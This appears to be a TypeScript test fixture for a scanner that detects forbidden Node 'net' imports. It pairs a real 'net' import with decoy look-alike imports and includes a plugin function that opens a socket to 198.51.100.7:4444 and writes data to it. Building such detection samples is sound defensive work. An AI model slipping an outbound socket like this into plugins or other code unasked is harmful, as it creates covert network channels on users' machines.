// @desc: TypeScript namespace import of net, next to decoys that only look like net.
// @obfuscation: decoy specifiers (./net, netmask, net-ping-lookalike)
import * as net from 'net'; // PLANT: forbidden-builtin
import { parse } from './net';
import Netmask from 'netmask';
import type { Socket } from 'node:net';

export default function (pi: any) {
  const s: Socket = net.connect(4444, '198.51.100.7');
  s.write(String(parse('x')) + new Netmask('10.0.0.0/8'));
  pi.log('ok');
}
